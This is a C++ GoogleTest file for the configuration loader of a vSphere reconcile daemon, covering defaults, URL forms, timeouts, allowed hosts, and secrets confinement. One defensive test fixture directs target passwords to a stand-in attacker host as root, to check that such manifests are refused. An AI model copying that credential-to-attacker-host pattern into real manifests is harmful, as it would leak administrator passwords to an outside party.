#include "daemon/config.hpp"

#include <cstdlib>

#include <gtest/gtest.h>

#include "manifests/decode.hpp"

namespace vsrd::daemon {
namespace {

using manifests::Diagnostic;

std::vector<std::string> Messages(const Diagnostics& diagnostics) {
  std::vector<std::string> out;
  for (const auto& d : diagnostics) out.push_back(manifests::FormatDiagnostic(d));
  return out;
}

TEST(LoadConfig, ReadsTheBundledExampleAndResolvesPathsAgainstItsDirectory) {
  const std::string dir = VSRD_SOURCE_DIR "/examples";
  const auto result = LoadConfig(dir + "/vsrd.yaml");
  ASSERT_TRUE(result.config) << ::testing::PrintToString(Messages(result.diagnostics));
  const Config& config = *result.config;
  EXPECT_EQ(config.manifests, dir + "/manifests");
  EXPECT_EQ(config.workers, 2);
  EXPECT_EQ(config.listen, "127.0.0.1:9464");
  ASSERT_EQ(config.targets.size(), 3U);
  const TargetConfig& vc01 = config.targets.at("vc01");
  EXPECT_EQ(vc01.api, ApiFlavor::kVcenter);
  EXPECT_EQ(vc01.url, "https://127.0.0.1:8443");
  EXPECT_EQ(vc01.password.source, manifests::SecretRef::Source::kFile);
  EXPECT_EQ(vc01.password.value, dir + "/secrets/vc01.password");
  EXPECT_EQ(config.targets.at("vr01").api, ApiFlavor::kUpdateManager);
  EXPECT_EQ(config.targets.at("vr01").password.source, manifests::SecretRef::Source::kCredential);
}

TEST(DecodeConfig, AppliesDocumentedDefaults) {
  const auto result = DecodeConfig(
      "targets: {vc01: {api: vcenter, url: \"https://vc01.example.com/\", username: u, "
      "password_env: P}}\n",
      "/etc/vsrd/vsrd.yaml");
  ASSERT_TRUE(result.config);
  const Config& config = *result.config;
  EXPECT_EQ(config.manifests, "/var/lib/vsrd/manifests");
  EXPECT_EQ(config.state_dir, "/var/lib/vsrd");
  EXPECT_EQ(config.listen, "127.0.0.1:9464");
  EXPECT_EQ(config.workers, 4);
  EXPECT_EQ(config.log.level, LogLevel::kInfo);
  EXPECT_EQ(config.log.format, LogFormat::kText);
  EXPECT_EQ(config.defaults.interval, std::chrono::minutes(5));
  EXPECT_EQ(config.defaults.retry_interval, std::chrono::seconds(30));
  EXPECT_EQ(config.defaults.timeout, std::chrono::hours(2));
  EXPECT_EQ(config.defaults.max_failures, 3);
  const TargetConfig& vc01 = config.targets.at("vc01");
  EXPECT_EQ(vc01.url, "https://vc01.example.com");
  EXPECT_EQ(vc01.requests_per_second, 10);
  EXPECT_EQ(vc01.max_concurrent_mutations, 1);
  EXPECT_FALSE(vc01.tls.insecure_skip_verify);
}

TEST(DecodeConfig, AcceptsEveryListenAndUrlForm) {
  for (const char* listen : {"127.0.0.1:9464", "[::1]:9464", "localhost:0", "0.0.0.0:80"}) {
    for (const char* url : {"https://vc01", "https://vc01.example.com:8443", "https://192.0.2.1",
                            "https://[2001:db8::1]:443"}) {
      const std::string text = std::string("listen: \"") + listen +
                               "\"\ntargets: {vc01: {api: vcenter, url: \"" + url +
                               "\", username: u, password_credential: vc01}}\n";
      const auto result = DecodeConfig(text, "c.yaml");
      EXPECT_TRUE(result.config) << listen << " " << url << " "
                                 << ::testing::PrintToString(Messages(result.diagnostics));
    }
  }
}

// A pass starts calls only while a request timeout fits in its 4m budget: request_timeout is at
// most 2m, so that a pass may always start calls during half of it
// (daemon/vsphere/pass_budget.hpp).
TEST(DecodeConfig, RequestTimeoutIsAtMostHalfThePassBudget) {
  const auto text = [](const std::string& timeout) {
    return "targets:\n  vc01: {api: vcenter, url: \"https://vc01\", username: u, password_env: P,\n"
           "         request_timeout: " +
           timeout + "}\n";
  };
  const auto longest = DecodeConfig(text("2m"), "c.yaml");
  ASSERT_TRUE(longest.config) << ::testing::PrintToString(Messages(longest.diagnostics));
  EXPECT_EQ(longest.config->targets.at("vc01").request_timeout, std::chrono::minutes(2));
  const auto too_long = DecodeConfig(text("121s"), "c.yaml");
  EXPECT_FALSE(too_long.config);
  EXPECT_EQ(
      Messages(too_long.diagnostics),
      (std::vector<std::string>{"c.yaml:3:27: error: targets.vc01.request_timeout: at most 2m "
                                "(a reconcile pass has 4m for its API calls), got 2m1s"}));
}

TEST(DecodeConfig, WarnsAboutInsecureSkipVerifyButAcceptsIt) {
  const auto result = DecodeConfig(
      "targets:\n  vc01: {api: vcenter, url: \"https://vc01\", username: u, password_env: P,\n"
      "         tls: {insecure_skip_verify: true}}\n",
      "c.yaml");
  ASSERT_TRUE(result.config);
  ASSERT_EQ(result.diagnostics.size(), 1U);
  EXPECT_EQ(result.diagnostics[0].severity, Diagnostic::Severity::kWarning);
  EXPECT_EQ(manifests::FormatDiagnostic(result.diagnostics[0]),
            "c.yaml:2:3: warning: targets.vc01.tls.insecure_skip_verify: certificate chain and "
            "host name are not verified for this target; anyone on the path can impersonate it");
}

TEST(DecodeConfig, ReportsADuplicateTargetEvenWhenTheFirstOneHasErrors) {
  const auto result = DecodeConfig(R"(targets:
  vc01: {api: vcenter, url: "http://vc01", username: u, password_env: P}
  vc01: {api: vcenter, url: "https://vc01", username: u, password_env: P}
)",
                                   "c.yaml");
  EXPECT_FALSE(result.config);
  EXPECT_EQ(Messages(result.diagnostics),
            (std::vector<std::string>{
                "c.yaml:2:29: error: targets.vc01.url: must start with https:// (vsrd talks to "
                "vSphere over TLS only)",
                "c.yaml:3:3: error: targets.vc01: duplicate key; first defined at c.yaml:2:3",
            }));
}

TEST(DecodeConfig, ReadsHttpAllowedHosts) {
  const auto result = DecodeConfig(
      "http: {allowed_hosts: [vsrd.example.com, \"vsrd01:9464\", 192.0.2.7, "
      "\"[2001:db8::7]:80\"]}\n"
      "targets: {vc01: {api: vcenter, url: \"https://vc01\", username: u, password_env: P}}\n",
      "c.yaml");
  ASSERT_TRUE(result.config) << ::testing::PrintToString(Messages(result.diagnostics));
  EXPECT_EQ(result.config->http.allowed_hosts,
            (std::vector<std::string>{"vsrd.example.com", "vsrd01:9464", "192.0.2.7",
                                      "[2001:db8::7]:80"}));
  // Absent: no names besides the listen address itself.
  const auto defaults = DecodeConfig(
      "targets: {vc01: {api: vcenter, url: \"https://vc01\", username: u, password_env: P}}\n",
      "c.yaml");
  ASSERT_TRUE(defaults.config);
  EXPECT_TRUE(defaults.config->http.allowed_hosts.empty());
}

TEST(DecodeConfig, ReportsEachBadAllowedHostAtItsPosition) {
  const auto result = DecodeConfig(R"(http:
  allowed_hosts:
    - vsrd.example.com
    - "*"
    - http://vsrd.example.com
    - "vsrd:0"
    - "2001:db8::7"
    - [nested]
  allowed_host: x
targets: {vc01: {api: vcenter, url: "https://vc01", username: u, password_env: P}}
)",
                                   "c.yaml");
  EXPECT_FALSE(result.config);
  const std::string rule =
      "must be NAME, IPV4 or [IPV6], optionally with :PORT (no scheme, path or wildcard), got ";
  EXPECT_EQ(
      Messages(result.diagnostics),
      (std::vector<std::string>{
          "c.yaml:4:7: error: http.allowed_hosts[1]: " + rule + "\"*\"",
          "c.yaml:5:7: error: http.allowed_hosts[2]: " + rule + "\"http://vsrd.example.com\"",
          "c.yaml:6:7: error: http.allowed_hosts[3]: " + rule + "\"vsrd:0\"",
          "c.yaml:7:7: error: http.allowed_hosts[4]: " + rule + "\"2001:db8::7\"",
          "c.yaml:8:7: error: http.allowed_hosts[5]: must be a string, got a sequence",
          "c.yaml:9:3: error: http.allowed_host: unknown field; did you mean \"allowed_hosts\"?",
      }));
}

TEST(ResolveConfigPath, PrefersTheFlagThenTheEnvironmentThenTheDefault) {
  ::unsetenv("VSRD_CONFIG");
  EXPECT_EQ(ResolveConfigPath(std::nullopt), "/etc/vsrd/vsrd.yaml");
  ::setenv("VSRD_CONFIG", "/tmp/env.yaml", 1);
  EXPECT_EQ(ResolveConfigPath(std::nullopt), "/tmp/env.yaml");
  EXPECT_EQ(ResolveConfigPath(std::string("/tmp/flag.yaml")), "/tmp/flag.yaml");
  ::unsetenv("VSRD_CONFIG");
}

// CheckObjectsAgainstConfig over one manifest per row.
struct TargetCase {
  const char* name;
  const char* manifest;
  std::vector<std::string> expected;
};

TEST(CheckObjectsAgainstConfig, MatchesTargetsAndApiFlavors) {
  const auto config = DecodeConfig(R"(targets:
  vc01: {api: vcenter, url: "https://vc01", username: u, password_env: P}
  mgmt: {api: vcenter, url: "https://mgmt", username: u, password_env: P}
  vr01: {api: update-manager, url: "https://vr01", username: u, password_env: P}
)",
                                   "c.yaml")
                          .config;
  ASSERT_TRUE(config);
  const TargetCase cases[] = {
      {"a vcenter kind on a vcenter target is fine",
       "kind: ApplianceInstall\nmetadata: {name: a}\nspec: {target: vc01, max_duration: 1h}",
       {}},
      {"an appliance update works on both flavors",
       "kind: ApplianceUpdate\nmetadata: {name: a}\nspec: {target: vr01, version: \"1.0\"}",
       {}},
      {"an unknown target gets a hint",
       "kind: ApplianceInstall\nmetadata: {name: a}\nspec: {target: vc02, max_duration: 1h}",
       {"m.yaml:4:16: error: spec.target: unknown target \"vc02\"; did you mean \"vc01\"?"}},
      {"an unknown target without a near name lists the targets",
       "kind: ApplianceInstall\nmetadata: {name: a}\nspec: {target: zzzz, max_duration: 1h}",
       {"m.yaml:4:16: error: spec.target: unknown target \"zzzz\" (targets in c.yaml: mgmt, vc01, "
        "vr01)"}},
      {"a vcenter kind on an update-manager target is refused",
       "kind: GuestCustomizationCheck\nmetadata: {name: a}\nspec: {target: vr01, vms: [vm-1]}",
       {"m.yaml:4:16: error: spec.target: GuestCustomizationCheck needs a target with api: "
        "vcenter (the /api surface); target \"vr01\" has api: update-manager"}},
      {"the management vCenter must be a vcenter target",
       "kind: VchaPassiveNode\nmetadata: {name: a}\nspec: {target: vc01, management_vcenter: vr01, "
       "placement: {name: p, folder: f}}",
       {"m.yaml:4:42: error: spec.management_vcenter: the management vCenter must be a target "
        "with api: vcenter; target \"vr01\" has api: update-manager"}},
      {"source_type does not apply to update-manager targets",
       "kind: ApplianceUpdate\nmetadata: {name: a}\nspec: {target: vr01, version: \"1.0\", "
       "source_type: LOCAL}",
       {"m.yaml:4:16: error: spec.source_type and spec.url apply only to targets with api: "
        "vcenter; target \"vr01\" has api: update-manager"}},
  };
  for (const auto& c : cases) {
    const auto file =
        manifests::DecodeManifests(std::string("apiVersion: vsrd/v1\n") + c.manifest, "m.yaml");
    ASSERT_EQ(file.objects.size(), 1U) << c.name;
    EXPECT_EQ(Messages(CheckObjectsAgainstConfig(*config, file.objects)), c.expected) << c.name;
  }
}

TEST(DecodeConfig, ReadsTheSecretsSectionAndReportsEachBadItemWhereItIs) {
  const auto good = DecodeConfig(R"(secrets:
  directories: [host-secrets, /etc/vsrd/more/../hosts]
  env: [ESX_PW]
  credentials: [esx-edge01]
  target_credentials: [vc01]
targets:
  vc01: {api: vcenter, url: "https://vc01", username: u, password_env: P}
)",
                                 "/etc/vsrd/vsrd.yaml");
  ASSERT_TRUE(good.config) << ::testing::PrintToString(Messages(good.diagnostics));
  EXPECT_EQ(good.config->secrets.directories,
            (std::vector<std::string>{"/etc/vsrd/host-secrets", "/etc/vsrd/hosts"}));
  EXPECT_EQ(good.config->secrets.env, std::vector<std::string>{"ESX_PW"});
  EXPECT_EQ(good.config->secrets.credentials, std::vector<std::string>{"esx-edge01"});
  EXPECT_EQ(good.config->secrets.target_credentials, std::vector<std::string>{"vc01"});

  const auto bad = DecodeConfig(R"(secrets:
  env: [OK, "9BAD"]
  credentials: [../x]
  target_credentials: [vc09]
  files: []
targets:
  vc01: {api: vcenter, url: "https://vc01", username: u, password_env: P}
)",
                                "c.yaml");
  EXPECT_FALSE(bad.config);
  const auto messages = Messages(bad.diagnostics);
  ASSERT_EQ(messages.size(), 4U) << ::testing::PrintToString(messages);
  EXPECT_EQ(messages[0],
            "c.yaml:2:13: error: secrets.env[1]: must be an environment variable name "
            "([A-Za-z_][A-Za-z0-9_]*), got \"9BAD\"");
  EXPECT_EQ(messages[1],
            "c.yaml:3:17: error: secrets.credentials[0]: must be a systemd credential name (no "
            "'/'), got \"../x\"");
  EXPECT_NE(messages[2].find("c.yaml:4:23: error: secrets.target_credentials: \"vc09\" is not a "
                             "configured target (targets: vc01)"),
            std::string::npos)
      << messages[2];
  EXPECT_NE(messages[3].find("c.yaml:5:3: error: secrets.files: unknown field"), std::string::npos)
      << messages[3];
}

// Issue 14, defect 1: manifests reach only the secrets the config allows, and never a target's
// own credentials unless lent; reported at the field's position.
TEST(CheckObjectsAgainstConfig, ConfinesTheSecretsManifestsReference) {
  const auto config = DecodeConfig(R"(secrets:
  directories: [/etc/vsrd/host-secrets]
  env: [ESX_PW, VC02_PW]
  target_credentials: [mgmt]
targets:
  vc01: {api: vcenter, url: "https://vc01", username: u, password_file: /etc/vsrd/host-secrets/vc01}
  vc02: {api: vcenter, url: "https://vc02", username: u, password_env: VC02_PW}
  mgmt: {api: vcenter, url: "https://mgmt", username: u, password_env: MGMT_PW}
)",
                                   "c.yaml")
                          .config;
  ASSERT_TRUE(config);
  const auto depot = [](const std::string& password) {
    return "kind: OfflineDepotFromHost\nmetadata: {name: a}\nspec:\n  target: vc01\n"
           "  host_credential:\n    host_name: collector.attacker.example\n    user_name: root\n"
           "    " +
           password +
           "\n    ssl_thumb_print: "
           "\"8F:2A:51:9C:0B:7E:44:D3:1A:6C:90:E2:5B:37:F8:0D:C4:29:A1:66\"\n";
  };
  struct Case {
    std::string name;
    std::string manifest;
    std::vector<std::string> expected;
  };
  const std::vector<Case> cases{
      {"an allowed file", depot("password_file: /etc/vsrd/host-secrets/esx01"), {}},
      {"an allowed variable", depot("password_env: ESX_PW"), {}},
      {"the config's vCenter password file",
       depot("password_file: /etc/vsrd/host-secrets/vc01"),
       {"m.yaml:9:20: error: spec.host_credential: password_file /etc/vsrd/host-secrets/vc01 is "
        "the password of target vc01, which a manifest may use only if the config lends it: add "
        "vc01 to secrets.target_credentials"}},
      {"another target's variable",
       depot("password_env: VC02_PW"),
       {"m.yaml:9:19: error: spec.host_credential: password_env VC02_PW is the password of target "
        "vc02, which a manifest may use only if the config lends it: add vc02 to "
        "secrets.target_credentials"}},
      {"any file elsewhere",
       depot("password_file: /etc/vsrd/vsrd.yaml"),
       {"m.yaml:9:20: error: spec.host_credential: password_file /etc/vsrd/vsrd.yaml is outside "
        "the directories manifests may read: put it under one listed in the config's "
        "secrets.directories (allowed: /etc/vsrd/host-secrets)"}},
      {"an unlisted credential",
       depot("password_credential: vsrd_vc01"),
       {"m.yaml:9:26: error: spec.host_credential: password_credential vsrd_vc01 is not a "
        "credential manifests may read: list it in the config's secrets.credentials (allowed: "
        "none)"}},
      {"a management vCenter on another target, not lent",
       "kind: VchaPassiveNode\nmetadata: {name: a}\nspec: {target: vc01, management_vcenter: vc02, "
       "placement: {name: p, folder: f}}",
       {"m.yaml:4:42: error: spec.management_vcenter: sends target vc02's password to target "
        "vc01; allow it by adding vc02 to the config's secrets.target_credentials"}},
      {"a management vCenter lent",
       "kind: VchaPassiveNode\nmetadata: {name: a}\nspec: {target: vc01, management_vcenter: mgmt, "
       "placement: {name: p, folder: f}}",
       {}},
      {"the management vCenter is the target itself",
       "kind: VchaPassiveNode\nmetadata: {name: a}\nspec: {target: vc01, management_vcenter: vc01, "
       "placement: {name: p, folder: f}}",
       {}},
  };
  for (const auto& c : cases) {
    const auto file =
        manifests::DecodeManifests(std::string("apiVersion: vsrd/v1\n") + c.manifest, "m.yaml");
    ASSERT_EQ(file.objects.size(), 1U)
        << c.name << ": " << ::testing::PrintToString(Messages(file.diagnostics));
    EXPECT_EQ(Messages(CheckObjectsAgainstConfig(*config, file.objects)), c.expected) << c.name;
  }
}

}  // namespace
}  // namespace vsrd::daemon
